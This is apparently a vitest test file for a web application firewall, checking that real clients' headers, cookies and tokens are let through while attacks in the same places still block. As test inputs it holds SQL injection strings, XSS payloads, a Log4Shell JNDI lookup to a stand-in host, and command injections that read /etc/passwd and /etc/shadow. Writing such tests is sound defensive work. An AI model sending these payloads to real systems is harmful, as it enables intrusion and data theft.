// Whole requests of real clients (test/support/variants/benign-clients.ts): browsers with their full
// header sets, apps and SDKs with their credentials, the mesh's tracing headers, crawlers, signed
// downloads, uploads, gRPC-web and WebSocket upgrades. One false positive in the parts every request
// carries blocks a client on every request, so none may be blocked. Each fix they needed has its
// regression cases here, beside attacks in the same header, cookie or path that must still block.
// Blocked rates per family: scripts/probe-clients.ts.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, targetsOf, type Req } from "../support/engine.js";
import { assertPassed, asPlaced } from "../support/variants/check.js";
import { CLIENT_FAMILIES, POLICY_FAMILIES } from "../support/variants/benign-clients.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const get = (path: string, headers: [string, string][] = []): Req => ({ method: "GET", path, headers: [["host", "app.example.com"], ...headers] });
const ids = (r: Req) => inspect(h, r).matches.map((m) => `${m.id}@${m.target}`);
const blocked = (r: Req) => inspect(h, r).score >= 5;

describe("real clients", () => {
  for (const [name, arb] of CLIENT_FAMILIES) it(`lets ${name} through`, () => assertPassed(h, asPlaced(arb), 200));
  // Blocked by policy at the default configuration (a REST API's methods and media types): let through
  // once the operator excludes those rules for the service's path.
  for (const [name, arb, exclusion] of POLICY_FAMILIES) {
    it(`lets ${name} through with ${exclusion}`, () => assertPassed(h, asPlaced(arb), 100, undefined, exclusion));
  }
  it("blocks WebDAV methods without the exclusion (rule 1001)", () => {
    expect(ids({ method: "PROPFIND", path: "/remote.php/dav/files/ann/", headers: [["host", "h"], ["depth", "1"]] })).toContain("1001@method");
  });
});

describe("Chrome's old GREASE brand with a leading space", () => {
  const hint = (v: string) => targetsOf(h, { headers: [["host", "h"], ["sec-ch-ua", v]] }).targets.some((t) => t.name === "header:sec-ch-ua");
  it("leaves out the brand lists Chrome 80-99 sent", () => {
    expect(hint('" Not A;Brand";v="99", "Chromium";v="98", "Google Chrome";v="98"')).toBe(false);
    expect(hint('"Chromium";v="96", " Not A;Brand";v="99", "Opera";v="82"')).toBe(false);
    expect(hint('" Not A;Brand";v="99.0.0.0", "Chromium";v="98.0.4758.102"')).toBe(false);
  });
  it("inspects other brands led by a space, and blocks an injection there", () => {
    expect(hint('" Not A;Brand\' or 1=1--";v="99"')).toBe(true);
    expect(hint('" Nat A;Brand";v="99"')).toBe(true);
    expect(blocked(get("/", [["sec-ch-ua", '" Not A;Brand";v="99", "x\' union select password from users--";v="1"']]))).toBe(true);
  });
});

describe("OpenID Connect login callbacks", () => {
  const idp: [string, string] = ["referer", "https://login.idp.example/"];
  it("lets session_state through when the identity provider refers the callback", () => {
    expect(blocked(get("/oauth/callback?state=af0ifjsldkj&session_state=7c1f2f2e-9c55-4bd0-9b38-53a2b8c0cf9f.QzNpZ1&code=SplxlOBeZQQYbYS6WxSbIA", [idp]))).toBe(false);
  });
  it("still blocks session ids another site plants (session fixation)", () => {
    expect(ids(get("/oauth/callback?session_state=x&sessionid=abc123", [idp]))).toContain("16002@args:sessionid");
    expect(ids(get("/login?session=abc123", [idp]))).toContain("16002@args:session");
    expect(ids(get("/login?session_state_id=abc123", [idp]))).toContain("16002@args:session_state_id");
  });
});

describe("random base64 tokens in headers and cookies", () => {
  // Read as text, a `+` is a space and the bytes before it a command or keyword (`Or+zJg`, `w+wkm`, `Pwd+8Af`).
  const tokens = [
    "Or+zjKUnUwm3uQkkg8eOniCmX6wii5ydhmOmV17F",
    "w+wkmdb55yBlulmOnk3ZwglhV7eFZPoGR8/e0Ss4",
    "aT+qQz+EokY7uIhaHCyznQu5UEFmfZzWKSU8HMOeY2zBmR0KWQ==",
    "PwD+DwE8fqnpGD0IZftOAQ==",
    "vi+0bKiUa5LW6VkdJtNX4h976iSYJklZaDa6XRci2rE=",
    "W+/DHqRWoMygvpVsvqyPOVjODFxN39iN",
  ];
  it.each(tokens)("lets %s through as XSRF-TOKEN, AWSALB and X-CSRF-Token", (t) => {
    expect(ids(get("/api/me", [["cookie", `XSRF-TOKEN=${encodeURIComponent(t)}; AWSALB=${t}`], ["x-csrf-token", t], ["grpc-trace-bin", t]]))).toEqual([]);
  });
  const attacks = [
    // `+` for spaces: short words (keywords) and numbers are no random runs
    ["cookie", "XSRF-TOKEN=0+UNION+SELECT+passWord+FROM+usErs"],
    ["cookie", "id=1+UNION+SELECT+password+FROM+users1"],
    ["cookie", "sid=uSerid+UNION+SELECT+pAssword+FROM+uSers+LIMIT+1"],
    // a secret file named in it
    ["x-csrf-token", "cat+/etc/passwd+AbCdEfGh"],
    // what a token decodes to is inspected
    ["cookie", `XSRF-TOKEN=${Buffer.from("<svg/onload=alert(document.domain)>").toString("base64")}`],
    ["x-csrf-token", Buffer.from("' UNION SELECT username, password FROM users--").toString("base64")],
    ["cookie", `AWSALB=${Buffer.from("${jndi:ldap://x.example.com/a}").toString("base64")}`],
  ] as [string, string][];
  it.each(attacks)("blocks %s: %s", (name, value) => {
    expect(blocked(get("/api/me", [[name, value]]))).toBe(true);
  });
});

describe("ids that decode from base64 to bytes, not text", () => {
  it("lets referral codes through whose decoding is random bytes", () => {
    expect(blocked(get("/landing?ref=RSI9OQ0NXuR1of5D&ref_src=twsrc%5Egoogle%7Ctwcamp%5Eserp"))).toBe(false);
  });
  it("still decodes base64 of text with non-ASCII letters", () => {
    expect(blocked(get(`/landing?ref=${Buffer.from("crème brûlée' or '1'='1").toString("base64")}`))).toBe(true);
    expect(blocked(get(`/landing?ref=${Buffer.from("<script>alert('é')</script>").toString("base64")}`))).toBe(true);
  });
});

describe("hex ids with one `e` between digits", () => {
  it("are no floats past the double range", () => {
    expect(blocked(get("/products/59886?v=11e11389"))).toBe(false);
    expect(blocked(get("/api/items", [["cookie", "mp_token=%7B%22%24device_id%22%3A%229805183e-7786%22%7D"]]))).toBe(false);
  });
  it("still blocks the overflow probes", () => {
    expect(ids(get("/products?id=1e309"))).toContain("2029@args:id");
    expect(ids(get("/products?id=-1e1000"))).toContain("2029@args:id");
  });
});

describe("tus uploads", () => {
  const chunk = (type: string): Req => ({ method: "PATCH", path: "/files/24e533e02ec3bc40c387f1a0e460e216", headers: [["host", "h"], ["tus-resumable", "1.0.0"], ["upload-offset", "1048576"], ["content-type", type]], body: new Uint8Array(32).fill(7) });
  it("lets a chunk sent as application/offset+octet-stream through", () => {
    expect(ids(chunk("application/offset+octet-stream"))).toEqual([]);
  });
  it("still checks the media type and its parameters", () => {
    expect(ids(chunk("application/offset+octet-stream; boundary=x"))).toContain("1013@header:content-type");
    expect(ids(chunk("application/offset+x-evil"))).toContain("1010@header:content-type");
  });
});

describe("a word, ` & ` and a filter", () => {
  it.each(["salt & more", "cut & paste", "tips & more", "news & sort"])("lets %s through in a query and a path", (phrase) => {
    expect(blocked(get(`/search?q=${encodeURIComponent(phrase)}`))).toBe(false);
    expect(blocked(get(`/search/${encodeURIComponent(phrase)}`))).toBe(false);
  });
  it.each(["x & id", "x & whoami", "x&more", "x & more /etc/passwd", "x & sort -r /etc/shadow", "x & w", "x & more; id", "x | more"])("blocks %s", (v) => {
    expect(blocked(get(`/search?q=${encodeURIComponent(v)}`))).toBe(true);
  });
});
